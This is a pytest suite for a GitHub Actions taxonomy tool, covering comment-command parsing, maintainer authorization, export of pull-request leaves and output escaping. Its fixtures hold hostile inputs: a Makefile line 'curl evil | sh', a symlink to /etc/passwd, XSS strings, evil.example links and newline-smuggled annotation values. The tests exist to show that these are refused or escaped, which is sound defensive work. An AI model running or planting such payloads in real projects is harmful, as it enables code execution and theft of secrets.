import json
import os
from dataclasses import replace
from pathlib import Path, PurePosixPath

import pytest

from support.taxonomy_repo import add_leaf, commit_all, git, make_repo
from taxon.core import github
from taxon.core.errors import TaxonError, UsageError
from taxon.core.settings import DocumentsSettings
from taxon.gitops import actions, authorize, comment, export, gh
from taxon.gitops import changes as pr_changes
from taxon.gitops.changes import is_taxonomy_path
from taxon.validate.files import leaf_folders

SHA = "0123456789abcdef0123456789abcdef01234567"


def classify(paths: list[str]) -> pr_changes.PullRequestChanges:
    """Classified with the leaves that the paths themselves show (their qna.yaml files)."""
    leaves = leaf_folders(PurePosixPath(path).relative_to("taxonomy") for path in paths if is_taxonomy_path(path))
    return pr_changes.classify_changes(paths, leaves)


# ------------------------------------------------------------------ classify


def test_classify_contribution_code_mixed_empty():
    assert classify(["taxonomy/knowledge/a/qna.yaml"]).kind == "contribution"
    assert classify(["tools/taxon/cli.py"]).kind == "code"
    mixed = classify(["taxonomy/knowledge/a/qna.yaml", "Makefile"])
    assert mixed.kind == "mixed" and mixed.other == ("Makefile",)
    assert classify([]).kind == "empty"
    assert classify(["taxonomy.toml", "taxonomyx/a"]).kind == "code"


def test_leaf_ids_of_changed_files():
    changes = classify(
        [
            "taxonomy/knowledge/birds/qna.yaml",
            "taxonomy/knowledge/birds/attribution.txt",
            "taxonomy/compositional_skills/x/y/qna.yaml",
        ]
    )
    assert changes.leaf_ids() == ["compositional_skills/x/y", "knowledge/birds"]


def test_split_message_names_the_other_files():
    message = pr_changes.split_message(classify(["taxonomy/k/qna.yaml", "Makefile", "setup.py"]))
    assert "1 leaf file(s) under taxonomy/" in message and "Makefile, setup.py" in message
    assert "Split it into two pull requests" in message


def test_changed_paths_count_a_rename_on_both_sides(tmp_path):
    repo = make_repo(tmp_path)
    git(repo, "checkout", "-q", "-b", "pr")
    git(repo, "mv", "README.md", "taxonomy/README.md")
    commit_all(repo, "move")
    assert pr_changes.changed_paths(repo, "origin/main") == ["README.md", "taxonomy/README.md"]
    # a README loose in taxonomy/ is no leaf file: the whole pull request is code
    assert pr_changes.pull_request_changes(repo, "origin/main", "HEAD").kind == "code"


def test_changed_paths_needs_the_base(tmp_path):
    repo = make_repo(tmp_path)
    with pytest.raises(TaxonError, match="fetch-depth"):
        pr_changes.changed_paths(repo, "origin/nope")


# ------------------------------------------------------------------ workflow commands


def test_annotation_cannot_inject_a_second_command():
    line = github.annotation("error", "bad\n::warning::forged 100%", title="a:b,c", file="x,y.yaml")
    assert line == "::error file=x%2Cy.yaml,title=a%3Ab%2Cc::bad%0A::warning::forged 100%25"
    assert "\n" not in line


def test_outputs_use_a_delimiter_a_value_cannot_forge(tmp_path):
    out = tmp_path / "output"
    actions.write_outputs(out, {"kind": "mixed", "leaves": "a\nkind=forged"})
    text = out.read_text()
    blocks = text.split("\n")
    assert blocks[0].startswith("kind<<taxon_") and blocks[1] == "mixed" and blocks[2] == blocks[0].split("<<")[1]
    assert "a\nkind=forged\n" in text
    actions.write_outputs(None, {"x": "y"})  # outside a runner: nothing to write


# ------------------------------------------------------------------ the /taxon samples command


@pytest.mark.parametrize(
    "body, expected",
    [
        ("/taxon samples", authorize.CommentCommand("samples")),
        (f"Looks good.\n\n/taxon samples {SHA}\n", authorize.CommentCommand("samples", SHA)),
        ("/taxon samples " + SHA.upper(), authorize.CommentCommand("samples", SHA)),
        ("please run\n```\n/taxon samples\n```", None),
        ("> /taxon samples", None),
        ("    /taxon samples", None),  # an indented code block
        ("\t/taxon samples", None),
        ("<!-- /taxon samples -->", None),
        ("<!--\n/taxon samples\n-->\nthanks", None),
        ("<!-- never closed\n/taxon samples", None),
        ("<!-- note -->\n/taxon samples", authorize.CommentCommand("samples")),
        ("/taxonomy samples", None),
        ("no command here", None),
        ("", None),
    ],
)
def test_parse_comment_command(body, expected):
    assert authorize.parse_comment_command(body) == expected


@pytest.mark.parametrize(
    "body",
    [
        # GitHub renders each of these as code or hides it: a line scan took them as commands
        "```bash\n/taxon samples\n```",  # a fence with an info string
        "~~~ yaml title\n/taxon samples\n~~~",
        "<pre>\n/taxon samples\n</pre>",
        "<pre>\n\n/taxon samples\n\n</pre>",  # a blank line does not end <pre>
        "````\n```\n/taxon samples\n```\n````",  # a shorter fence inside a longer one
        "````\n/taxon samples\n```` trailing text\n````",  # a closing fence takes no text: still open
        "```\n/taxon samples",  # never closed: code to the end
        "<details>\n\n/taxon samples\n\n</details>",  # collapsed
        "<div hidden>\n\n/taxon samples\n\n</div>",
        "<table><tr><td>\n\n/taxon samples\n\n</td></tr></table>",
        "text <!--\n/taxon samples\n--> more",  # an inline comment over lines
        "> quoted\n/taxon samples",  # a lazy continuation line of the quote
        "> > /taxon samples",
        "- /taxon samples",  # a list item
        "1. /taxon samples",
        "# /taxon samples",  # a heading
        "/taxon samples\n---",  # a setext heading
        "| a |\n|---|\n| /taxon samples |",  # a table cell
        "`/taxon samples`",
        "*/taxon samples*",
        "[/taxon samples](https://example.org)",
    ],
)
def test_commands_a_reader_does_not_see_as_one_do_not_count(body):
    assert authorize.parse_comment_command(body) is None


@pytest.mark.parametrize(
    "body",
    [
        "```\nnot this\n```\n\n/taxon samples",
        "Thanks!  \n/taxon samples",  # after a hard break
        "<details>\n\nlogs\n\n</details>\n\n/taxon samples",  # after a closed element
        "&#47;taxon samples",  # renders as the command
    ],
)
def test_a_command_in_a_paragraph_counts(body):
    assert authorize.parse_comment_command(body) == authorize.CommentCommand("samples")


@pytest.mark.parametrize(
    "body",
    ["/taxon train", "/taxon", "/taxon samples main", "/taxon samples abc1234 more", "/taxon samples 0123abc"],
)
def test_bad_commands_are_usage_errors(body):
    with pytest.raises(UsageError):
        authorize.parse_comment_command(body)


@pytest.mark.parametrize(
    "permission, allowed",
    [
        ({"permission": "admin", "role_name": "admin"}, True),
        ({"permission": "write", "role_name": "maintain"}, True),
        ({"permission": "write", "role_name": "write"}, True),
        ({"permission": "read", "role_name": "triage"}, False),
        ({"permission": "read", "role_name": "read"}, False),
        ({"permission": "none"}, False),
        ({}, False),
    ],
)
def test_write_access(permission, allowed):
    assert authorize.has_write_access(permission) is allowed


def _pull(number=7, head=SHA, state="open"):
    return {"number": number, "state": state, "head": {"sha": head}, "base": {"ref": "main"}}


def _label_event(label="generate-samples", head=SHA, sender="maintainer"):
    return {
        "action": "labeled",
        "label": {"name": label},
        "pull_request": {"number": 7, "head": {"sha": head}},
        "sender": {"login": sender},
    }


def _comment_event(body="/taxon samples", sender="maintainer", on_pr=True):
    issue = {"number": 7, **({"pull_request": {"url": "x"}} if on_pr else {})}
    return {"action": "created", "issue": issue, "comment": {"body": body}, "sender": {"login": sender}}


WRITE = {"permission": "write", "role_name": "write", "user": {"login": "maintainer"}}


def test_label_by_a_maintainer_is_a_request_for_the_labelled_commit():
    request = authorize.authorize_samples("pull_request_target", _label_event(), WRITE, _pull())
    assert request == authorize.SamplesRequest(7, SHA, "main", "maintainer")


def test_comment_by_a_maintainer_with_and_without_a_commit():
    assert authorize.authorize_samples("issue_comment", _comment_event(), WRITE, _pull()).head_sha == SHA
    assert (
        authorize.authorize_samples("issue_comment", _comment_event(f"/taxon samples {SHA}"), WRITE, _pull()).pr_number
        == 7
    )


@pytest.mark.parametrize(
    "event_name, event, permission, pull, why",
    [
        ("pull_request_target", _label_event("bug"), WRITE, _pull(), "not a 'generate-samples' label"),
        (
            "pull_request_target",
            _label_event(),
            {"permission": "read", "user": {"login": "maintainer"}},
            _pull(),
            "no write access",
        ),
        (
            "pull_request_target",
            _label_event(),
            {**WRITE, "user": {"login": "someone-else"}},
            _pull(),
            "not for 'maintainer'",
        ),
        ("pull_request_target", _label_event(), WRITE, _pull(head="f" * 40), "moved on"),
        ("pull_request_target", _label_event(), WRITE, _pull(state="closed"), "not open"),
        ("pull_request_target", _label_event(), WRITE, _pull(number=8), "does not match"),
        ("issue_comment", _comment_event(on_pr=False), WRITE, _pull(), "not a new comment on a pull request"),
        ("issue_comment", _comment_event("thanks!"), WRITE, _pull(), "no '/taxon samples' command"),
        ("issue_comment", _comment_event("/taxon samples " + "f" * 40), WRITE, _pull(), "moved on"),
        ("issue_comment", _comment_event("/taxon samples " + SHA[:39] + "f"), WRITE, _pull(), "moved on"),
        (
            "issue_comment",
            _comment_event(sender="drive-by"),
            {"permission": "read", "user": {"login": "drive-by"}},
            _pull(),
            "no write access",
        ),
        ("pull_request", _label_event(), WRITE, _pull(), "not generated on 'pull_request'"),
    ],
)
def test_refusals_say_why(event_name, event, permission, pull, why):
    with pytest.raises(TaxonError, match=why):
        authorize.authorize_samples(event_name, event, permission, pull)


def test_a_pinned_head_binds_the_request():
    """The samples job passes the head its authorize job found; any other head is refused."""
    assert authorize.authorize_samples("issue_comment", _comment_event(), WRITE, _pull(), SHA.upper()).head_sha == SHA
    with pytest.raises(TaxonError, match="moved on"):
        authorize.authorize_samples("issue_comment", _comment_event(), WRITE, _pull(head="f" * 40), SHA)
    for pinned, body in ((SHA[:12], "/taxon samples"), ("f" * 40, f"/taxon samples {SHA}"), ("", "/taxon samples")):
        with pytest.raises(TaxonError, match="pinned head"):
            authorize.authorize_samples("issue_comment", _comment_event(body), WRITE, _pull(), pinned)


# ------------------------------------------------------------------ the pull request's taxonomy as data


LIMITS = DocumentsSettings(max_file_bytes=200_000, max_pr_files=500, max_pr_bytes=50_000_000)


def test_export_takes_only_changed_leaves_as_regular_files(tmp_path):
    repo = make_repo(tmp_path)
    git(repo, "checkout", "-q", "-b", "pr")
    new_leaf = add_leaf(repo, "compositional_skills/new/leaf")
    (new_leaf / "notes.md").write_text("in-tree notes")
    (new_leaf / "big.md").write_text("x" * 200_001)
    os.symlink("/etc/passwd", new_leaf / "stolen.md")
    add_leaf(repo, "compositional_skills/new/leaf/nested")  # a leaf inside the leaf: its own
    (repo / "Makefile").write_text("all:\n\tcurl evil | sh\n")
    head = commit_all(repo, "pr")
    git(repo, "checkout", "-q", "main")  # the work tree is main's, as in the trusted job

    out = tmp_path / "pr-data"
    exported = export.export_pr_taxonomy(repo, "origin/main", head, out, LIMITS)
    assert exported.leaves == [
        "taxonomy/compositional_skills/new/leaf",
        "taxonomy/compositional_skills/new/leaf/nested",
    ]
    written = sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())
    assert written == [
        "taxonomy/compositional_skills/new/leaf/attribution.txt",
        "taxonomy/compositional_skills/new/leaf/nested/attribution.txt",
        "taxonomy/compositional_skills/new/leaf/nested/qna.yaml",
        "taxonomy/compositional_skills/new/leaf/notes.md",
        "taxonomy/compositional_skills/new/leaf/qna.yaml",
    ]
    assert not any(p.is_symlink() for p in out.rglob("*"))
    assert dict(exported.skipped) == {
        "taxonomy/compositional_skills/new/leaf/big.md": "larger than 200000 bytes",
        "taxonomy/compositional_skills/new/leaf/stolen.md": "not a regular file (symlink or submodule)",
    }
    assert not (repo / "taxonomy/compositional_skills/new").exists()  # main's work tree untouched
    assert (out / "taxonomy/compositional_skills/new/leaf/qna.yaml").read_bytes() == git_blob(
        repo, head, "taxonomy/compositional_skills/new/leaf/qna.yaml"
    )


def test_export_caps_files_and_bytes_before_reading_any_blob(tmp_path):
    """A small push can hold a large tree (one 5 KB commit exported 80 MB before the caps):
    the listing's sizes decide before one blob is read, and nothing is written."""
    repo = make_repo(tmp_path)
    git(repo, "checkout", "-q", "-b", "pr")
    leaf = add_leaf(repo, "knowledge/new/leaf")
    for number in range(20):
        (leaf / f"part{number}.md").write_text("x" * 1000 + "\n")
    head = commit_all(repo, "pr")
    out = tmp_path / "out"
    for limits in (replace(LIMITS, max_pr_files=10, max_pr_bytes=10**9), replace(LIMITS, max_pr_bytes=15_000)):
        with pytest.raises(TaxonError, match="over the caps of"):
            export.export_pr_taxonomy(repo, "origin/main", head, out, limits)
        assert not out.exists()
    exported = export.export_pr_taxonomy(repo, "origin/main", head, out, LIMITS)
    assert len(exported.files) == 22 and (out / leaf.relative_to(repo) / "part7.md").read_text() == "x" * 1000 + "\n"


def git_blob(repo: Path, commit: str, path: str) -> bytes:
    return git(repo, "show", f"{commit}:{path}").encode() + b"\n"


def test_export_of_a_changed_attribution_takes_the_whole_leaf(tmp_path):
    repo = make_repo(tmp_path)
    git(repo, "checkout", "-q", "-b", "pr")
    (repo / "taxonomy/knowledge/existing/leaf/attribution.txt").write_text("changed\n")
    head = commit_all(repo, "pr")
    exported = export.export_pr_taxonomy(repo, "origin/main", head, tmp_path / "out", LIMITS)
    assert exported.leaves == ["taxonomy/knowledge/existing/leaf"]
    assert sorted(Path(p).name for p in exported.files) == ["attribution.txt", "qna.yaml"]


def test_export_of_a_deleted_leaf_has_no_leaves(tmp_path):
    repo = make_repo(tmp_path)
    git(repo, "checkout", "-q", "-b", "pr")
    git(repo, "rm", "-q", "-r", "taxonomy/knowledge/existing")
    head = commit_all(repo, "pr")
    assert export.export_pr_taxonomy(repo, "origin/main", head, tmp_path / "out", LIMITS).leaves == []


def test_unsafe_paths_are_refused():
    assert export.safe_relative("taxonomy/a/qna.yaml")
    for bad in ("/etc/passwd", "taxonomy/../x", "taxonomy/./x", "taxonomy\\x", ""):
        assert not export.safe_relative(bad)


# ------------------------------------------------------------------ sticky comment


def _comment(id_, body, login="github-actions[bot]", type_="Bot"):
    return {"id": id_, "body": body, "user": {"login": login, "type": type_}}


def test_sticky_comment_is_ours_only():
    marker = github.COMMENT_MARKER
    comments = [
        _comment(1, f"{marker} old"),
        _comment(2, f"{marker} forged by a user", login="attacker", type_="User"),
        _comment(3, "unrelated bot comment"),
        _comment(4, f"{marker} newer"),
    ]
    assert comment.find_sticky_comment(comments) == 4
    assert comment.find_sticky_comment(comments[1:3]) is None


def test_post_creates_then_updates():
    calls = []
    existing = []

    def fake_gh(args, input_bytes):
        calls.append((args, json.loads(input_bytes) if input_bytes else None))
        if args[1] == "--paginate":
            return "".join(json.dumps(c) + "\n" for c in existing).encode()
        return b"{}"

    assert comment.post_sticky_comment("o/r", 7, "body one", gh=fake_gh) == "created"
    assert calls[-1] == (
        ["api", "--method", "POST", "repos/o/r/issues/7/comments", "--input", "-"],
        {"body": "body one"},
    )
    existing.append(_comment(99, github.COMMENT_MARKER + " body one"))
    assert comment.post_sticky_comment("o/r", 7, "body two", gh=fake_gh) == "updated"
    assert calls[-1] == (
        ["api", "--method", "PATCH", "repos/o/r/issues/comments/99", "--input", "-"],
        {"body": "body two"},
    )


# ------------------------------------------------------------------ summaries


def test_pr_summary_lists_leaves_and_the_files_to_split():
    changes = classify(["taxonomy/knowledge/a|b/qna.yaml", "Makefile"])
    summary = pr_changes.render_pr_summary(changes)
    assert "**mixed**" in summary and "- `Makefile`" in summary and "- `knowledge/a|b`" in summary


def test_validation_summary_from_sarif_escapes_messages():
    sarif = {
        "runs": [
            {
                "results": [
                    {
                        "ruleId": "S004",
                        "level": "error",
                        "message": {"text": "<script>x</script> | more"},
                        "locations": [
                            {
                                "physicalLocation": {
                                    "artifactLocation": {"uri": "taxonomy/k/qna.yaml"},
                                    "region": {"startLine": 3},
                                }
                            }
                        ],
                    },
                    {"ruleId": "W1", "level": "warning", "message": {"text": "meh"}, "locations": []},
                ]
            }
        ]
    }
    summary = pr_changes.render_validation_summary(sarif)
    assert "Validation failed: 1 errors, 1 warnings, 0 notes." in summary
    assert "| error | S004 | `taxonomy/k/qna.yaml:3` | &lt;script&gt;x&lt;/script&gt; \\| more |" in summary
    assert "<script>" not in summary
    assert "Validation passed" in pr_changes.render_validation_summary({"runs": [{"results": []}]})


def test_missing_gh_is_a_clear_error(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(TaxonError, match="GitHub CLI"):
        gh.run_gh(["api", "user"])


# ------------------------------------------------------------------ train: the gate issue, the models, the id


HOSTILE_SUBJECTS = [
    "Merge pull request #5 from mallory/[click](https://evil.example)",
    "Add leaf ![pixel](https://evil.example/p.png) (#6)",
    "Ping @octo/maintainers and @everyone (#7)",
    "<img src=x onerror=alert(1)> <details open> (#8)",
    "Merge pull request #9 from mallory/``tick`` [x](y)",
    "Autolink https://evil.example and <https://evil.example> (#10)",
]


def _strip_code_spans(text: str) -> str:
    import re

    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", text)


def test_the_gate_issue_shows_merged_titles_and_branch_names_as_code():
    from taxon.gitops.gate import MergedChange, render_gate_issue

    report = {
        "gate": {"passed": False, "reasons": ["changed leaf @octo/team [x](https://evil.example) did not improve"]},
        "sets": {},
        "baselines": ["base"],
    }
    merged = [MergedChange(f"{index:040x}", subject) for index, subject in enumerate(HOSTILE_SUBJECTS)]
    body = render_gate_issue(
        report, {"base": "base model `base`"}, "a" * 40, "https://github.com/o/r/actions/runs/1", merged, None
    )
    section = body[body.index("**Merged since") :]
    shown = _strip_code_spans(section)
    for rendered in ("](", "@", "<", "https://evil"):
        assert rendered not in shown, (rendered, shown)
    assert "- #6 `Add leaf ![pixel](https://evil.example/p.png) (#6)`" in section
    assert "@octo/team" not in _strip_code_spans(body[: body.index("**Merged since")])


def _gpu_config(tmp_path: Path, base: str, teacher: str) -> Path:
    from support.taxonomy_repo import REPO

    text = (REPO / "taxon.toml").read_text()
    text = text.replace('base = "ibm-granite/granite-3.3-2b-instruct"', f'base = "{base}"')
    text = text.replace('teacher = "ibm-granite/granite-3.3-8b-instruct"', f'teacher = "{teacher}"')
    path = tmp_path / "taxon.toml"
    path.write_text(text)
    return path


@pytest.mark.parametrize(
    ("base", "teacher", "named"),
    [
        ("packaged:smollm2", "org/teacher", "models.base = 'packaged:smollm2'"),
        ("org/base", "packaged:smollm2", "generate.teacher = 'packaged:smollm2'"),
        ("packaged:other", "packaged:smollm2", "models.base = 'packaged:other', generate.teacher"),
    ],
)
def test_a_gpu_profile_naming_the_demo_model_stops_the_workflow_early(tmp_path, capsys, base, teacher, named):
    from taxon.cli import main

    config = _gpu_config(tmp_path, base, teacher)
    assert main(["gitops", "check-models", "--profile", "gpu", "--config", str(config)]) == 1
    out = capsys.readouterr().out
    assert out.startswith("::error title=Set the GPU runner's models::") and named in out
    assert "[profiles.gpu.models] base" in out and "Setting up the GPU runner" in out
    assert main(["gitops", "check-models", "--profile", "cpu", "--config", str(config)]) == 0  # the demo's own


def test_the_shipped_gpu_profile_names_real_models(capsys):
    from taxon.cli import main

    assert main(["gitops", "check-models", "--profile", "gpu"]) == 0
    assert "packaged:" not in capsys.readouterr().out


def test_the_repository_id_falls_back_to_the_event(tmp_path, monkeypatch):
    from taxon.commands.gitops import _repository_id

    event = tmp_path / "event.json"
    event.write_text(json.dumps({"repository": {"id": 4242}}))
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(event))
    monkeypatch.setenv("GITHUB_REPOSITORY_ID", "77")
    assert _repository_id() == 77
    monkeypatch.delenv("GITHUB_REPOSITORY_ID")  # act sets none
    assert _repository_id() == 4242
    for payload in ({}, {"repository": {"id": "4242"}}, {"repository": {"id": True}}):
        event.write_text(json.dumps(payload))
        with pytest.raises(UsageError, match="no repository id"):
            _repository_id()


def test_redact_hides_secret_values_and_the_endpoint_host(monkeypatch, capsys):
    import io

    from taxon.cli import main

    monkeypatch.setenv("TEACHER_URL", "https://teacher.internal.example:8443/v1")
    monkeypatch.setenv("TEACHER_KEY", "sk-abc123")
    monkeypatch.setattr(
        "sys.stdin",
        io.StringIO(
            "error: https://teacher.internal.example:8443/v1 refused (key sk-abc123)\nhost teacher.internal.example\n"
        ),
    )
    assert main(["gitops", "redact", "--env", "TEACHER_URL", "--env", "TEACHER_KEY", "--env", "UNSET"]) == 0
    out = capsys.readouterr().out
    assert out == "error: *** refused (key ***)\nhost ***\n"
